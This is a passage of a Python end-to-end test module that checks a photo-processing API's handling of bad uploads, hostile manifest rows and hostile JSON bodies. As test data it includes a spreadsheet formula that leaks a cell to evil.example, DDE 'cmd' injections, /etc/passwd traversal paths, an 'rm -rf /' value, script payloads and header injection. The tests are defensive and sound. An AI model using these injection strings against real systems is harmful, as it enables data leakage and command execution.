"""Bad input through the whole local stack: every file of the corpus (``corpus.py``) is uploaded through the real
API (POST /v1/jobs → pre-signed POST through the S3 proxy → S3 event → start-workflow → the state machine), empty
and oversized files through the pre-signed POST and the drop folder, hostile manifest rows in drop folders, and
hostile JSON bodies to the API. Each bad input ends with its documented error code and costs nothing; each
awkward-but-valid input is charged exactly once; the books balance and nothing is left running.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
from collections import Counter
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import requests
from PIL import Image

from bench.load import garment_image
from functions.common.errors import INPUT_ERROR_CODES
from local.stack import DROP_BUCKET, LocalStack
from tests import hostile_images
from tests.reliability import books
from tests.reliability.conftest import Tenant, garment_jpeg, new_tenant
from tests.reliability.corpus import Case, bad_input_corpus
from tests.reliability.tally import TALLY

pytestmark = pytest.mark.e2e

ROOT = Path(__file__).resolve().parents[2]
SECTION = "bad input"
WORKERS = 8
FINAL = {"succeeded", "failed", "rejected", "cancelled"}
_SNAKE = re.compile(r"^[a-z][a-z0-9_]*$")


# ---- helpers ------------------------------------------------------------------------------------------------------


def clear_sentence(message: Any) -> bool:
    """A message a person can read: words, not a traceback, a repr or a bare code."""
    return (
        isinstance(message, str)
        and 12 <= len(message) <= 1100
        and " " in message.strip()
        and not _SNAKE.match(message)
        and not any(s in message for s in ("Traceback", "Exception(", "Error(", "object at 0x", "None"))
    )


def poll(check: Callable[[], Any], timeout: float, what: str, interval: float = 0.25) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = check()
        if value:
            return value
        if time.monotonic() > deadline:
            raise TimeoutError(f"{what}: not done after {timeout}s")
        time.sleep(interval)


def wait_job(tenant: Tenant, job_id: str, timeout: float = 180) -> dict[str, Any]:
    def final() -> dict[str, Any] | None:
        job = tenant.api.job(job_id)
        return job if job["status"] in FINAL else None

    return dict(poll(final, timeout, f"job {job_id}", interval=0.3))


def post_file(upload: dict[str, Any], filename: str, data: bytes, content_type: str) -> requests.Response:
    """The pre-signed POST, sent to the local S3 proxy exactly as a browser sends it."""
    return requests.post(
        upload["url"], data=upload["fields"], files={"file": (filename, data, content_type)}, timeout=60
    )


def ledger(job_ids: list[str]) -> dict[str, list[tuple[str, int]]]:
    """Ledger entries per job, read as the database owner."""
    with books.admin() as conn:
        rows = conn.execute(
            "SELECT job_id, kind, amount FROM ledger WHERE job_id = ANY(%s::uuid[]) ORDER BY id", (job_ids,)
        ).fetchall()
    out: dict[str, list[tuple[str, int]]] = {j: [] for j in job_ids}
    for row in rows:
        out[str(row["job_id"])].append((row["kind"], int(row["amount"])))
    return out


def balance(tenant: Tenant) -> int:
    return int(tenant.api.request("GET", "/v1/credits")["balance"])


def running_executions(stack: LocalStack) -> list[dict[str, Any]]:
    sfn = stack.client("stepfunctions")
    return list(
        sfn.list_executions(stateMachineArn=stack.state_machine_arn, statusFilter="RUNNING")["executions"]
    )


def settle(stack: LocalStack) -> None:
    """Everything started has ended: no execution running, no inference or message in flight."""
    stack.wait_idle(120)
    assert running_executions(stack) == []
    assert stack.pump_errors == []


def batch_jobs(tenant: Tenant, batch_id: str) -> list[dict[str, Any]]:
    items: list[dict[str, Any]] = []
    cursor = None
    while True:
        params: dict[str, Any] = {"limit": 100, **({"cursor": cursor} if cursor else {})}
        page = tenant.api.request("GET", f"/v1/batches/{batch_id}/jobs", params=params)
        items += page["items"]
        cursor = page["next_cursor"]
        if not cursor:
            return items


def wait_batch_jobs(tenant: Tenant, batch_id: str, names: set[str], timeout: float = 180) -> dict[str, Any]:
    """The batch's jobs by file name once every one of ``names`` has a final job."""

    def done() -> dict[str, Any] | None:
        by_name = {j["filename"]: j for j in batch_jobs(tenant, batch_id)}
        if names <= set(by_name) and all(by_name[n]["status"] in FINAL for n in names):
            return by_name
        return None

    return dict(poll(done, timeout, f"batch {batch_id}", interval=0.4))


def drop(stack: LocalStack, prefix: str, name: str, data: bytes) -> None:
    """Straight into the drop folder (a shop's own S3 tooling), no API involved."""
    stack.client("s3").put_object(Bucket=DROP_BUCKET, Key=prefix + name, Body=data)


def chunks(items: list[Case], size: int) -> list[list[Case]]:
    return [items[i : i + size] for i in range(0, len(items), size)]


# ---- 1. the corpus through POST /v1/jobs ---------------------------------------------------------------------------


def test_every_corpus_file_through_the_api(stack: LocalStack) -> None:
    corpus = bad_input_corpus()
    assert len({c.name for c in corpus}) == len(corpus)
    rejected = [c for c in corpus if c.expect == "rejected"]
    succeeded = [c for c in corpus if c.expect == "succeeded"]
    # rejected files on tenants of their own (their balance must not move at all); at most 8 paid files a tenant
    groups = [(new_tenant(stack, "bad"), group) for group in chunks(rejected, 16)]
    groups += [(new_tenant(stack, "awk"), group) for group in chunks(succeeded, 8)]
    before = {t.tenant_id: balance(t) for t, _ in groups}

    def run(tenant: Tenant, case: Case) -> tuple[Tenant, Case, dict[str, Any]]:
        created = tenant.api.request(
            "POST", "/v1/jobs", json={"filename": case.filename, "content_type": case.content_type}
        )
        response = post_file(created["upload"], case.filename, case.data, case.content_type)
        assert response.status_code == 204, (case.name, response.status_code, response.text[:300])
        return tenant, case, wait_job(tenant, str(created["job_id"]))

    with ThreadPoolExecutor(WORKERS) as pool:
        futures = [pool.submit(run, tenant, case) for tenant, group in groups for case in group]
        results = [f.result() for f in futures]
    settle(stack)

    entries = ledger([job["id"] for _, _, job in results])
    problems: list[str] = []
    spent: Counter[str] = Counter()
    for tenant, case, job in results:
        got = (job["status"], (job["error"] or {}).get("code"))
        if got != (case.expect, case.code):
            problems.append(f"{case.name}: expected {(case.expect, case.code)}, got {got} {job['error']}")
            continue
        kinds = entries[job["id"]]
        if case.expect == "rejected":
            if not clear_sentence(job["error"]["message"]):
                problems.append(f"{case.name}: unclear message {job['error']['message']!r}")
            if kinds:  # rejected by validation: nothing was reserved, let alone captured
                problems.append(f"{case.name}: ledger entries {kinds}")
            continue
        if sorted(kinds) != [("capture", 0), ("reserve", -int(job["cost"]))]:
            problems.append(f"{case.name}: not charged exactly once: {kinds}")
        spent[tenant.tenant_id] += int(job["cost"])
        result = tenant.api.download(job)
        with Image.open(io.BytesIO(result)) as image:
            image.load()
            kept = {"exif", "icc_profile", "xmp", "comment"} & set(image.info)
            if kept or image.mode not in {"RGB", "RGBA"}:  # metadata stripped, 8-bit sRGB
                problems.append(f"{case.name}: the result is {image.mode} and keeps {sorted(kept)}")
        for payload in case.forbidden:
            if payload in result:
                problems.append(f"{case.name}: the result still contains {payload[:40]!r}")
    assert not problems, "\n".join(problems)

    for tenant, _ in groups:
        assert balance(tenant) == before[tenant.tenant_id] - spent[tenant.tenant_id], tenant.email
    audited = books.assert_balanced([t.tenant_id for t, _ in groups])
    assert audited.jobs == Counter({"rejected": len(rejected), "succeeded": len(succeeded)})
    assert audited.captured == sum(spent.values())

    TALLY.add(SECTION, "files tried", len(corpus))
    assert {c.code for c in rejected} <= set(INPUT_ERROR_CODES)
    TALLY.add(SECTION, "rejected with a documented code", len(rejected))
    TALLY.add(SECTION, "awkward files charged exactly once", len(succeeded))
    TALLY.zero(SECTION, "charged for a rejected file")
    TALLY.zero(SECTION, "stuck jobs")


# ---- 1b. awkward photos whose results must be right, not merely charged ---------------------------------------------


def test_awkward_photos_come_out_right(stack: LocalStack) -> None:
    """Issue 15, items 12 and 14: a camera JPEG with an MPF preview, a CMYK JPEG without Adobe's marker (Pillow
    would read it inverted: nearly black) and a float TIFF with one +Inf pixel (which broke the scaling to 8 bits)
    each give the garment on the preset's background, charged once."""
    tenant = new_tenant(stack, "right")
    start = balance(tenant)
    photo = garment_image((360, 450))  # a blue shirt on a light grey backdrop
    floats = hostile_images.float_garment(photo)
    files = {
        "camera.jpg": (hostile_images.camera_mpo(photo), "image/jpeg", "colour"),
        "plaincmyk.jpg": (hostile_images.plain_cmyk_jpeg(photo), "image/jpeg", "colour"),
        "oneinf.tiff": (hostile_images.float_tiff(hostile_images.with_one_inf(floats)), "image/tiff", "grey"),
    }
    job_ids = {name: tenant.api.upload(name, data, kind) for name, (data, kind, _) in files.items()}
    jobs = {name: wait_job(tenant, job_id) for name, job_id in job_ids.items()}
    settle(stack)
    spent = 0
    for name, job in jobs.items():
        assert job["status"] == "succeeded", (name, job["error"])
        assert sorted(ledger([job["id"]])[job["id"]]) == [("capture", 0), ("reserve", -int(job["cost"]))]
        spent += int(job["cost"])
        with Image.open(io.BytesIO(tenant.api.download(job))) as result:
            pixels = np.asarray(result.convert("RGB")).astype(int)
        # the preset's light background, not a dark negative
        assert pixels.mean() > 150, (name, pixels.mean())
        if files[name][2] == "colour":  # the shirt's blue: blue well above red
            garment = (pixels[..., 2] - pixels[..., 0] > 60) & (pixels[..., 2] > 90)
        else:  # the shirt's grey level (about 60 of 255) on the light background
            garment = pixels.mean(axis=2) < 110
        assert garment.mean() > 0.05, (name, float(garment.mean()))
    assert balance(tenant) == start - spent
    books.assert_balanced([tenant.tenant_id])
    TALLY.add(SECTION, "awkward photos checked pixel by pixel", len(files))


# ---- 2. empty and oversized files -----------------------------------------------------------------------------------


def test_empty_and_oversized_files(stack: LocalStack, monkeypatch: pytest.MonkeyPatch) -> None:
    tenant = new_tenant(stack, "size")
    start = balance(tenant)
    photo = garment_jpeg((1200, 1500))
    limit = len(photo) // 2

    # Zero bytes through the pre-signed POST: its content-length-range (1..max) refuses it, as S3 does.
    created = tenant.api.request(
        "POST", "/v1/jobs", json={"filename": "empty.jpg", "content_type": "image/jpeg"}
    )
    refused = post_file(created["upload"], "empty.jpg", b"", "image/jpeg")
    assert refused.status_code == 400
    assert "<Code>EntityTooSmall</Code>" in refused.text
    empty_job = str(created["job_id"])

    # Above UPLOAD_MAX_BYTES through the pre-signed POST: refused by the same policy.
    monkeypatch.setenv("UPLOAD_MAX_BYTES", str(limit))
    created = tenant.api.request(
        "POST", "/v1/jobs", json={"filename": "big.jpg", "content_type": "image/jpeg"}
    )
    assert created["max_bytes"] == limit
    refused = post_file(created["upload"], "big.jpg", photo, "image/jpeg")
    assert refused.status_code == 400
    assert "<Code>EntityTooLarge</Code>" in refused.text
    big_job = str(created["job_id"])
    for job_id in (empty_job, big_job):
        assert tenant.api.job(job_id)["status"] == "awaiting_upload"  # nothing arrived, nothing runs

    # The drop folder has no policy: the workflow's validation refuses both, by size, before anything is read.
    batch = tenant.api.request("POST", "/v1/batches", json={"name": "sizes"})
    drop(stack, batch["drop_prefix"], "x.jpg", b"")
    drop(stack, batch["drop_prefix"], "big.jpg", photo)
    jobs = wait_batch_jobs(tenant, batch["id"], {"x.jpg", "big.jpg"})
    settle(stack)
    monkeypatch.undo()
    assert (jobs["x.jpg"]["status"], jobs["x.jpg"]["error"]["code"]) == ("rejected", "empty_file")
    assert (jobs["big.jpg"]["status"], jobs["big.jpg"]["error"]["code"]) == ("rejected", "file_too_large")
    assert all(clear_sentence(jobs[n]["error"]["message"]) for n in jobs)

    ids = [empty_job, big_job, jobs["x.jpg"]["id"], jobs["big.jpg"]["id"]]
    assert ledger(ids) == {job_id: [] for job_id in ids}
    assert balance(tenant) == start
    audited = books.assert_balanced([tenant.tenant_id], allow_awaiting_upload=True)
    assert audited.jobs == Counter({"awaiting_upload": 2, "rejected": 2})
    TALLY.add(SECTION, "files tried", 4)
    assert {"empty_file", "file_too_large"} <= set(INPUT_ERROR_CODES)
    TALLY.add(SECTION, "rejected with a documented code", 2)
    TALLY.add(SECTION, "uploads refused by the pre-signed POST policy", 2)


# ---- 3. hostile manifest rows ---------------------------------------------------------------------------------------

FORMULA = ("=", "+", "-", "@", "\t", "\r")
MANIFEST_CSV_COLUMNS = ("file", "sku", "mode", "pose_id", "background", "preset")


def csv_manifest(rows: list[dict[str, Any]]) -> bytes:
    """A manifest.csv as a spreadsheet would export it (quoted where needed); ``__extra__`` adds cells."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(MANIFEST_CSV_COLUMNS)
    for row in rows:
        writer.writerow([row.get(c, "") for c in MANIFEST_CSV_COLUMNS] + list(row.get("__extra__", [])))
    return out.getvalue().encode("utf-8")


def test_hostile_manifest_rows(stack: LocalStack) -> None:
    tenant = new_tenant(stack, "csv")
    start = balance(tenant)
    photo = garment_jpeg()

    # -- A: one CSV manifest, row by row. Formula-looking SKUs and file names are data (processed, charged once;
    # report.csv neutralises them); every other hostile row rejects its file (manifest_invalid), or, when it
    # names no usable file, is listed among the manifest's problems with no job at all.
    good = {
        "good.jpg": "SKU-OK",
        '=HYPERLINK("evil.example","click").jpg': '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
        "+cmd.jpg": "+cmd|' /C calc'!A0",
        "@SUM(1+1).jpg": "-1+1",
    }
    rejected_rows: dict[str, dict[str, Any]] = {
        "tab-sku.jpg": {"sku": "A\tB"},
        "del-sku.jpg": {"sku": "A\x7fB"},
        "c1-sku.jpg": {"sku": "A\x85B"},
        "long-sku.jpg": {"sku": "S" * 5000},
        "mode.jpg": {"mode": "teleport"},
        "pose.jpg": {"mode": "on-model", "pose_id": "../../etc/passwd"},
        "bg-library.jpg": {"background": "library:../../secrets"},
        "bg-js.jpg": {"background": "url(javascript:alert(1))"},
        "bg-long.jpg": {"background": "#" + "f" * 100_000},
        "preset.jpg": {"preset": "ebay"},
        "extra.jpg": {"sku": "X", "__extra__": ["=cmd|' /C calc'!A0"]},
    }
    no_file_rows = [
        "../../x.jpg",
        "/etc/passwd.jpg",
        "C:\\Windows\\win.jpg",
        "a\\b.jpg",
        "f" * 300 + ".jpg",
        "bell\x07.jpg",
        ".hidden.jpg",
        "manifest.csv",
        "",
    ]
    rows: list[dict[str, Any]] = [{"file": name, "sku": sku} for name, sku in good.items()]
    rows += [{"file": name, **fields} for name, fields in rejected_rows.items()]
    rows += [{"file": "dup.jpg", "sku": "D1"}, {"file": "dup.jpg", "sku": "D2"}]
    rows += [{"file": name, "sku": "NOFILE"} for name in no_file_rows]
    batch_a = tenant.api.request("POST", "/v1/batches", json={"name": "hostile rows"})
    prefix = batch_a["drop_prefix"]
    drop(stack, prefix, "manifest.csv", csv_manifest(rows))
    expected_a: dict[str, tuple[str, str | None]] = dict.fromkeys(good, ("succeeded", None))
    expected_a |= dict.fromkeys([*rejected_rows, "dup.jpg"], ("rejected", "manifest_invalid"))
    expected_a["stray.jpg"] = ("rejected", "not_in_manifest")
    for name in expected_a:
        drop(stack, prefix, name, photo)
    drop(stack, prefix, "../../escape.jpg", photo)  # a key outside the layout: ignored, no job

    # -- B: manifests refused as a whole (each in its own batch with one photo): the photo is rejected
    # manifest_invalid and the batch says why.
    nested = b'{"files": ' + b"[" * 100_000 + b"]" * 100_000 + b"}"
    whole: dict[str, tuple[str, bytes, str]] = {
        "csv with NUL": ("manifest.csv", b"file,sku\na.jpg,A\x00B\n", "NUL"),
        "latin-1 csv": ("manifest.csv", "file,sku\na.jpg,Caf\u00e9\n".encode("latin-1"), "not UTF-8"),
        "utf-16 csv": ("manifest.csv", "file,sku\na.jpg,A\n".encode("utf-16"), "not UTF-8"),
        "csv without a file column": ("manifest.csv", b"sku,mode\nA,ghost\n", '"file" column'),
        "csv with a formula column": (
            "manifest.csv",
            b"file,=cmd|' /C calc'!A0\na.jpg,x\n",
            "unknown column",
        ),
        "csv header only": ("manifest.csv", b"file,sku\n", "names no files"),
        "malformed json": ("manifest.json", b'{"files": [{"file": "a.jpg"', "not valid JSON"),
        "deeply nested json": ("manifest.json", nested, "not valid JSON"),
        "json with NaN": (
            "manifest.json",
            b'{"files": [{"file": "a.jpg", "quality": NaN}]}',
            "not valid JSON",
        ),
        "json list": ("manifest.json", b'[{"file": "a.jpg"}]', "must be a JSON object"),
        "json unknown key": (
            "manifest.json",
            b'{"files": [{"file": "a.jpg"}], "__proto__": {}}',
            "unknown top",
        ),
        "json bad defaults": (
            "manifest.json",
            b'{"defaults": {"mode": "x"}, "files": [{"file": "a.jpg"}]}',
            "defaults are invalid",
        ),
        "json files not a list": ("manifest.json", b'{"files": {"file": "a.jpg"}}', "must be a list"),
        "json over 5 MB": (
            "manifest.json",
            b'{"files": [{"file": "a.jpg", "sku": "' + b"x" * (5 * 1024 * 1024) + b'"}]}',
            "larger than",
        ),
        "json naming 10001 files": (
            "manifest.json",
            json.dumps({"files": [{"file": f"f{i}.jpg"} for i in range(10_001)]}).encode(),
            "at most 10000",
        ),
    }
    whole_batches: dict[str, dict[str, Any]] = {}
    for label, (name, data, _) in whole.items():
        batch = tenant.api.request("POST", "/v1/batches", json={"name": label})
        drop(stack, batch["drop_prefix"], name, data)
        drop(stack, batch["drop_prefix"], "a.jpg", photo)
        whole_batches[label] = batch

    # -- C: JSON rows of the wrong shapes.
    json_rows: list[Any] = [
        {"file": "j-sku-list.jpg", "sku": ["a"]},
        {"file": "j-sku-object.jpg", "sku": {"$ne": None}},
        {"file": "j-options-string.jpg", "options": "preset=square"},
        {"file": "j-options-operator.jpg", "options": {"preset": {"$gt": ""}}},
        {"file": "j-unknown-field.jpg", "colour": "red"},
        {"file": "j-mode-null.jpg", "mode": None},
        {"file": "j-priority.jpg", "priority": "urgent"},
        {"file": "j-seed.jpg", "seed": 10**30},
        {"file": "j-quality.jpg", "quality": "high"},
        {"file": "j-pose.jpg", "mode": "on-model", "pose_id": "<script>alert(1)</script>"},
        5,
        None,
        {"sku": "no file"},
        {"file": 42},
        {"file": ["a.jpg"]},
    ]
    batch_c = tenant.api.request("POST", "/v1/batches", json={"name": "hostile json rows"})
    drop(stack, batch_c["drop_prefix"], "manifest.json", json.dumps({"files": json_rows}).encode())
    named_c = {r["file"] for r in json_rows if isinstance(r, dict) and isinstance(r.get("file"), str)}
    for name in named_c:
        drop(stack, batch_c["drop_prefix"], name, photo)

    # -- wait for everything, then check
    jobs_a = wait_batch_jobs(tenant, batch_a["id"], set(expected_a))
    jobs_c = wait_batch_jobs(tenant, batch_c["id"], named_c)
    jobs_b = {
        label: wait_batch_jobs(tenant, b["id"], {"a.jpg"})["a.jpg"] for label, b in whole_batches.items()
    }
    settle(stack)

    problems: list[str] = []
    assert set(jobs_a) == set(expected_a), sorted(set(jobs_a) ^ set(expected_a))  # no job for escape.jpg
    for name, (status, code) in expected_a.items():
        job = jobs_a[name]
        got = (job["status"], (job["error"] or {}).get("code"))
        if got != (status, code):
            problems.append(f"csv row {name!r}: expected {(status, code)}, got {got} {job['error']}")
        elif code and not clear_sentence(job["error"]["message"]):
            problems.append(f"csv row {name!r}: unclear message {job['error']['message']!r}")
    for name, job in jobs_c.items():
        if (job["status"], (job["error"] or {}).get("code")) != ("rejected", "manifest_invalid"):
            problems.append(f"json row {name!r}: {job['status']} {job['error']}")
        elif not clear_sentence(job["error"]["message"]) or len(job["error"]["message"]) > 1000:
            problems.append(f"json row {name!r}: unclear message {job['error']['message']!r}")
    for label, job in jobs_b.items():
        reason = whole[label][2]
        batch = tenant.api.request("GET", f"/v1/batches/{whole_batches[label]['id']}")
        if (job["status"], (job["error"] or {}).get("code")) != ("rejected", "manifest_invalid"):
            problems.append(f"{label}: {job['status']} {job['error']}")
        elif reason not in (batch["manifest_error"] or "") or reason not in job["error"]["message"]:
            problems.append(f"{label}: reason {reason!r} missing: {batch['manifest_error']!r}")
    assert not problems, "\n".join(problems)
    assert jobs_a["good.jpg"]["sku"] == "SKU-OK"
    assert jobs_a["+cmd.jpg"]["sku"] == good["+cmd.jpg"]  # data, kept as given

    # the report: written once the batch finished; no cell a spreadsheet would run; problem rows listed
    finished = poll(
        lambda: (b := tenant.api.request("GET", f"/v1/batches/{batch_a['id']}"))["report"] and b,
        60,
        "report of the hostile-rows batch",
    )
    assert finished["status"] == "completed"
    assert finished["credits_spent"] == len(good)
    report_csv = requests.get(finished["report"]["csv_url"], timeout=30)
    assert report_csv.status_code == 200
    table = list(csv.reader(io.StringIO(report_csv.content.decode("utf-8"), newline="")))
    header, body = table[0], table[1:]
    cells = [cell for row in body for cell in row]
    assert [c for c in cells if c[:1] in FORMULA] == []
    by_file = {row[header.index("file")]: dict(zip(header, row, strict=True)) for row in body}
    for name, sku in good.items():
        shown = "'" + name if name[:1] in FORMULA else name
        assert by_file[shown]["status"] == "succeeded"
        assert by_file[shown]["sku"] == ("'" + sku if sku[:1] in FORMULA else sku)
    report = requests.get(finished["report"]["json_url"], timeout=30).json()
    problem_rows = report["batch"]["manifest_problems"]
    assert len(problem_rows) == len(no_file_rows)
    assert all(clear_sentence(p["error"]) for p in problem_rows)

    all_ids = [j["id"] for j in (*jobs_a.values(), *jobs_c.values(), *jobs_b.values())]
    entries = ledger(all_ids)
    charged_rejected = [i for i in all_ids if entries[i] and i not in {jobs_a[n]["id"] for n in good}]
    assert charged_rejected == []
    for name in good:
        assert sorted(entries[jobs_a[name]["id"]]) == [("capture", 0), ("reserve", -1)], name
    assert balance(tenant) == start - len(good)
    audited = books.assert_balanced([tenant.tenant_id])
    assert audited.jobs["succeeded"] == len(good)

    tried = len(rows) + len(json_rows) + len(whole)
    TALLY.add(SECTION, "manifest rows tried", tried)
    TALLY.add(SECTION, "files tried", len(jobs_a) + len(jobs_c) + len(jobs_b) + 1)
    codes = [(j["error"] or {}).get("code") for j in (*jobs_a.values(), *jobs_c.values(), *jobs_b.values())]
    assert set(codes) - {None} <= set(INPUT_ERROR_CODES)
    TALLY.add(SECTION, "rejected with a documented code", len(codes) - codes.count(None))
    TALLY.add(SECTION, "report.csv cells checked for formulas", len(cells))
    TALLY.zero(SECTION, "charged for a rejected file")
    TALLY.zero(SECTION, "stuck jobs")


# ---- 4. hostile JSON bodies to the API ------------------------------------------------------------------------------


def _json(value: Any) -> bytes:
    return json.dumps(value).encode()


JOB = {"filename": "a.jpg", "content_type": "image/jpeg"}
JSON = "application/json"
FORM = "application/x-www-form-urlencoded"
INVALID = (422, "validation_error")
NOT_JSON = (415, "unsupported_media_type")


@dataclass(frozen=True)
class Body:
    """A hostile request: ``path`` may name ``{batch}``, a batch of the tenant."""

    label: str
    path: str
    body: bytes
    expect: tuple[int, str] = INVALID
    content_type: str = JSON
    method: str = "POST"


def job_with(raw_options: bytes) -> bytes:
    return b'{"filename": "a.jpg", "content_type": "image/jpeg", "options": ' + raw_options + b"}"


def nested(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def account_body(
    label: str, body: bytes, expect: tuple[int, str] = INVALID, content_type: str = JSON
) -> Body:
    return Body(label, "/v1/account", body, expect, content_type, "PATCH")


def batch_body(label: str, body: bytes, expect: tuple[int, str] = INVALID, content_type: str = JSON) -> Body:
    return Body(label, "/v1/batches", body, expect, content_type)


def drop_upload(label: str, filename: str, content_type: str = "image/jpeg") -> Body:
    return Body(
        label, "/v1/batches/{batch}/uploads", _json({"filename": filename, "content_type": content_type})
    )


HOSTILE_BODIES: list[Body] = [
    # POST /v1/jobs: wrong types, missing fields
    Body("filename a number", "/v1/jobs", _json({**JOB, "filename": 123})),
    Body("filename a list", "/v1/jobs", _json({**JOB, "filename": ["a.jpg"]})),
    Body("mode a number", "/v1/jobs", _json({**JOB, "mode": 5})),
    Body("options a list", "/v1/jobs", _json({**JOB, "options": []})),
    Body("hollow a string", "/v1/jobs", _json({**JOB, "options": {"hollow": "yes please"}})),
    Body("empty object", "/v1/jobs", b"{}"),
    Body("no content_type", "/v1/jobs", _json({"filename": "a.jpg"})),
    Body("no filename", "/v1/jobs", _json({"content_type": "image/jpeg"})),
    Body("null body", "/v1/jobs", b"null"),
    Body("list body", "/v1/jobs", b"[]"),
    Body("string body", "/v1/jobs", b'"a.jpg"'),
    Body("empty body", "/v1/jobs", b""),
    Body("truncated json", "/v1/jobs", b'{"filename": "a.jpg", "content_'),
    # huge strings, deep nesting, numbers JSON does not have
    Body("1 MB filename", "/v1/jobs", _json({**JOB, "filename": "a" * 1_000_000 + ".jpg"})),
    Body("1 MB background", "/v1/jobs", _json({**JOB, "options": {"background": "#" + "f" * 1_000_000}})),
    Body("options nested 100000 deep", "/v1/jobs", job_with(nested(100_000))),
    Body("options nested 900 deep", "/v1/jobs", job_with(nested(900))),
    Body("body nested 100000 deep", "/v1/jobs", nested(100_000)),
    Body("quality NaN", "/v1/jobs", job_with(b'{"quality": NaN}')),
    Body("seed Infinity", "/v1/jobs", job_with(b'{"seed": Infinity}')),
    Body("size -Infinity", "/v1/jobs", job_with(b'{"size": -Infinity}')),
    Body("seed 1e400", "/v1/jobs", job_with(b'{"seed": 1e400}')),
    Body("seed of 5000 digits", "/v1/jobs", job_with(b'{"seed": 1' + b"0" * 5000 + b"}")),
    # duplicate keys (the last one wins, as in most parsers) and what the content type may be
    Body(
        "duplicate content_type",
        "/v1/jobs",
        b'{"filename": "a.jpg", "content_type": "image/jpeg", "content_type": "text/html"}',
    ),
    Body(
        "duplicate filename",
        "/v1/jobs",
        b'{"filename": "a.jpg", "content_type": "image/jpeg", "filename": {"$ne": 1}}',
    ),
    Body("content_type text/html", "/v1/jobs", _json({**JOB, "content_type": "text/html"})),
    Body("content_type svg", "/v1/jobs", _json({**JOB, "content_type": "image/svg+xml"})),
    Body("content_type gif", "/v1/jobs", _json({**JOB, "content_type": "image/gif"})),
    Body("content_type octet-stream", "/v1/jobs", _json({**JOB, "content_type": "application/octet-stream"})),
    Body("content_type upper case", "/v1/jobs", _json({**JOB, "content_type": "IMAGE/JPEG"})),
    Body(
        "content_type with a header", "/v1/jobs", _json({**JOB, "content_type": "image/jpeg\r\nX-Amz-Acl: x"})
    ),
    # unknown options and fields, unknown catalogue entries
    Body("unknown option", "/v1/jobs", _json({**JOB, "options": {"shell": "rm -rf /"}})),
    Body(
        "tenant_id in the body",
        "/v1/jobs",
        _json({**JOB, "tenant_id": "00000000-0000-0000-0000-000000000000"}),
    ),
    Body("cost in the body", "/v1/jobs", _json({**JOB, "cost": 0})),
    Body("unknown pose", "/v1/jobs", _json({**JOB, "mode": "on-model", "options": {"pose_id": "../p"}})),
    Body("unknown background", "/v1/jobs", _json({**JOB, "options": {"background": "library:../../x"}})),
    Body("priority urgent", "/v1/jobs", _json({**JOB, "priority": "urgent"})),
    Body("filename of dots only", "/v1/jobs", _json({**JOB, "filename": "../.."})),
    # encodings and media types
    Body("invalid UTF-8", "/v1/jobs", b'{"filename": "\xff\xfe.jpg", "content_type": "image/jpeg"}'),
    Body("lone surrogate escape", "/v1/jobs", b'{"filename": "\\ud800.jpg", "content_type": "image/jpeg"}'),
    Body("form body", "/v1/jobs", b"filename=a.jpg&content_type=image%2Fjpeg", NOT_JSON, FORM),
    Body("json as text/plain", "/v1/jobs", _json(JOB), NOT_JSON, "text/plain"),
    Body("multipart", "/v1/jobs", b"--x\r\n\r\nb\r\n--x--", NOT_JSON, "multipart/form-data; boundary=x"),
    Body("xml body", "/v1/jobs", b"<job><filename>a.jpg</filename></job>", NOT_JSON, "application/xml"),
    Body("body above 10 MB", "/v1/jobs", _json({**JOB, "pad": "x" * (10 * 1024 * 1024)}), (413, "")),
    # PATCH /v1/account
    account_body("account name a number", _json({"name": 123})),
    account_body("account empty", b"{}"),
    account_body("account name 10k", _json({"name": "n" * 10_000})),
    account_body("account name with NUL", _json({"name": "Shop\x00"})),
    account_body("account name with escape codes", _json({"name": "\x1b[2J\x1b[31mShop"})),
    account_body("account name blank", _json({"name": "   "})),
    account_body("account extra field", _json({"name": "Shop", "balance": 10**9})),
    account_body("account NaN", b'{"name": NaN}'),
    account_body("account invalid UTF-8", b'{"name": "Caf\xe9"}'),
    account_body("account nested", b'{"name": ' + nested(50_000) + b"}"),
    account_body("account form", b"name=Shop", NOT_JSON, FORM),
    # POST /v1/batches
    batch_body("batch name a number", _json({"name": 5})),
    batch_body("batch name 1000", _json({"name": "b" * 1000})),
    batch_body("batch mode unknown", _json({"defaults": {"mode": "teleport"}})),
    batch_body("batch preset unknown", _json({"defaults": {"options": {"preset": "ebay"}}})),
    batch_body("batch defaults a list", _json({"defaults": []})),
    batch_body("batch foreign folder", _json({"name": "x", "folder": "../other-tenant"})),
    batch_body("batch quality NaN", b'{"defaults": {"options": {"quality": NaN}}}'),
    batch_body("batch nested", b'{"defaults": ' + b'{"a": ' * 20_000 + b"1" + b"}" * 20_000 + b"}"),
    batch_body("batch as text/plain", b'{"name": "x"}', NOT_JSON, "text/plain"),
    # POST /v1/batches/{batch}/uploads: a drop folder's file names are kept as given, so they must be plain
    drop_upload("drop file traversal", "../x.jpg"),
    drop_upload("drop file backslash", "..\\x.jpg"),
    drop_upload("drop file NUL", "a\x00.jpg"),
    drop_upload("drop manifest as an image", "manifest.json"),
    drop_upload("drop html", "a.html", "text/html"),
]
# Accepted on purpose: the server chooses the upload key, so a hostile file name is reduced to a safe base name
# (README: "key chosen by the server under the tenant prefix"), and content is checked by its bytes, not by the
# declared type or extension. Each gets its job (deleted again below) and a key under the tenant's prefix.
NEUTRALISED_FILENAMES = {
    "../../../etc/passwd.jpg": "passwd.jpg",
    "C:\\Windows\\System32\\evil.jpg": "evil.jpg",
    "shirt\x00.php.jpg": "shirt_.php.jpg",
    "\x1b[31mred\x1b[0m.jpg": "31mred_0m.jpg",
    "photo.png": "photo.png",  # declared image/jpeg: a mismatch is settled by the content
}


def test_hostile_json_bodies(stack: LocalStack) -> None:
    tenant = new_tenant(stack, "body")
    target = tenant.api.request("POST", "/v1/batches", json={"name": "target"})
    name_before = tenant.api.request("GET", "/v1/account")["tenant_name"]
    jobs_before = tenant.api.request("GET", "/v1/jobs", params={"limit": 100})["items"]
    batches_before = tenant.api.request("GET", "/v1/batches", params={"limit": 100})["items"]
    start = balance(tenant)

    def send(case: Body) -> str | None:
        label, (status, code) = case.label, case.expect
        response = requests.request(
            case.method,
            stack.api_url + case.path.format(batch=target["id"]),
            data=case.body,
            headers={**tenant.headers, "Content-Type": case.content_type},
            timeout=60,
